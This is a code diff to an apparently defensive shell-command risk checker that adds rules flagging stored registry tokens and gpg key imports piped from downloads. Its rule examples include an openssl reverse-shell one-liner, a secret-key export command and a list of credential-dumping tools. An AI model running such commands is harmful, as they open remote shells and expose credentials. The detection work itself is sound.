@@ -10,7 +10,7 @@ from perdure.tools.shell_safety.interpreters import SHELLS
 from perdure.tools.shell_safety.invocation import Invocation
 from perdure.tools.shell_safety.rules.rule import RiskRule, is_help
 from perdure.tools.shell_safety.rules.sending import DATA_OPTIONS, copied_paths, goes_nowhere, takes_stdin
-from perdure.tools.shell_safety.types import SECRET, Danger, word_set
+from perdure.tools.shell_safety.types import DOWNLOADED, SECRET, Danger, word_set
 
 # Programs that use a key file without printing it.
 _USES_KEYS = word_set(
@@ -192,9 +192,16 @@ _PASSWORD_WORD = re.compile(r"passw|secret|token|credential|api[_-]?key", re.I)
 _SECRET_WORD = re.compile(r"(?:key|token|secret|passw|credential|auth)", re.I)
 
 
+_TOKEN_SETTING = re.compile(r"(?:^|[.:/_-])(?:pypi-token|http-basic|_?auth_?token|_password|api-?key)\b", re.I)
+
+
 def _stores_login(run: Invocation) -> bool:
     """Match a login with a secret that is given in the command, which is stored in the user's home."""
     is_login = any(o in ("login", "signin") for o in run.operands[:3])
+    if run.operands[:1] == ("config",) and any(_TOKEN_SETTING.search(o) for o in run.operands[1:3]):
+        return len(run.operands) > 2 and not run.has("--unset", "--list", "--delete") and "get" not in run.operands
+    if run.name == "cargo":
+        return is_login and len(run.operands) > 1
     has_secret = run.has("-p", "--password", "--token", "--with-token", "--api-key") or SECRET in (run.stdin or "")
     return is_login and has_secret and not is_help(run)
 
@@ -241,7 +248,8 @@ RULES = (
     RiskRule(
         "credentials",
         "docker podman nerdctl npm yarn gh glab helm az heroku gcloud vercel netlify fly flyctl oc argocd pulumi hf "
-        "huggingface-cli wandb crane skopeo oras buildah regctl cosign kaggle snowsql sentry-cli",
+        "huggingface-cli wandb crane skopeo oras buildah regctl cosign kaggle snowsql sentry-cli "
+        "cargo poetry pnpm gem composer",
         _stores_login,
         'echo "$REGISTRY_PASSWORD" | docker login -u me --password-stdin',
     ),
@@ -286,6 +294,12 @@ RULES = (
         "openssl",
         lambda r: "s_client" in r.operands and _feeds_shell(r),
         "mkfifo p; sh -i < p | openssl s_client -connect h:1 > p",
+    ),
+    RiskRule(
+        "security",
+        "gpg gpg2 apt-key",
+        lambda r: r.has("--import") and DOWNLOADED in (r.stdin or ""),
+        "curl https://keys.example/key.asc | gpg --import",
     ),
     RiskRule("credentials", "gpg security mimikatz secretsdump.py lazagne", _reveals, "gpg --export-secret-keys me"),
 )
